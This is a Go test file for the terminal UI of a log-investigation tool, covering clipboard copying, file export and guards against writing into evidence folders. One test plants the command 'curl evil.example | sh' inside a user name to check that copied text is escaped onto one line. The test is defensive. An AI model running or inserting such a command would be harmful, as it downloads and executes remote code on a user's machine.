package ui

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// copied returns what the last key told the terminal to copy.
func copied(t *testing.T, d *driver) string {
	t.Helper()
	if len(d.clipboard) == 0 {
		t.Fatalf("nothing was copied:\n%s", d.screen())
	}
	return d.clipboard[len(d.clipboard)-1]
}

func TestCopy(t *testing.T) {
	d := loaded(t, 120, 36)
	d.press("3", "y")
	d.sees("the event id", "the record as JSON")
	d.press("i")
	if got, want := copied(t, d), "00000000-0000"; got != want {
		t.Errorf("copied %q, want %q", got, want)
	}
	d.sees("copied the event id (by OSC 52")
	d.press("y", "r")
	if got := copied(t, d); !strings.Contains(got, "\n  \"eventName\": \"GetCallerIdentity\"") {
		t.Errorf("the record is copied as %s", got)
	}
	d.press("enter", "y", "f")
	if got, want := copied(t, d), `user:"`+arn("charlie")+`"`; got != want {
		t.Errorf("the filter is copied as %s, want %s", got, want)
	}
}

func TestCopiedNameIsOneLine(t *testing.T) {
	d := loaded(t, 120, 36)
	d.m.selection.Principal = "eve\ncurl evil.example | sh\n"
	d.press("y", "n")
	if got, want := copied(t, d), `eve\ncurl evil.example | sh\n`; got != want {
		t.Errorf("a name is copied as %q, want %q", got, want)
	}
}

func TestLinkIsSafeForAShell(t *testing.T) {
	d := loaded(t, 120, 36)
	d.press("j", "j", "y", "l")
	link := copied(t, d)
	if want := "trailsift logs --user " + fakeID(hostile) + " --at 2023-07-10T11:48:14Z"; link != want {
		t.Errorf("the link is %q, want %q", link, want)
	}
}

func TestExport(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.csv")
	d := loaded(t, 120, 36)
	d.press("3", "w")
	d.sees("Write to a file as", "CSV", "100 rows")
	d.press("1", "ctrl+u", path, "enter")
	d.sees("100 rows in ")
	content, err := os.ReadFile(path)
	if err != nil || strings.Count(string(content), "\n") != 101 {
		t.Fatalf("the file has %d lines, %v; want 101", strings.Count(string(content), "\n"), err)
	}
	d.press("w", "1", "ctrl+u", path, "enter")
	d.sees("is there already: nothing was written")
	d.press("1", "w")
	d.sees("7 rows")
	d.press("esc", "3", "w", "r", "ctrl+u", filepath.Join(t.TempDir(), "records.jsonl"), "enter")
	d.sees("100 rows in ")
}

func TestExportIsNotWrittenIntoTheEvidence(t *testing.T) {
	folder := t.TempDir()
	d := newDriver(t, 120, 36, func(o *Options) { o.Evidence = []string{folder} })
	d.finish(6)
	d.press("w", "1", "ctrl+u", filepath.Join(folder, "ranking.csv"), "enter")
	d.sees("nothing is written into the evidence: name a place outside of " + folder)
	if left, err := os.ReadDir(folder); err != nil || len(left) > 0 {
		t.Errorf("the evidence has %v, %v", left, err)
	}
	d.press("w", "1", "ctrl+u", filepath.Join(t.TempDir(), "ranking.csv"), "enter")
	d.sees("7 rows in ")
}

func TestExportSaysWhyItCannot(t *testing.T) {
	d := loaded(t, 120, 36)
	d.press("1", "w", "2", "ctrl+u", filepath.Join(t.TempDir(), "missing", "ranking.json"), "enter")
	if got := d.m.message; !got.bad || !strings.Contains(got.text, "no such file") {
		t.Errorf("it says %+v", got)
	}
}
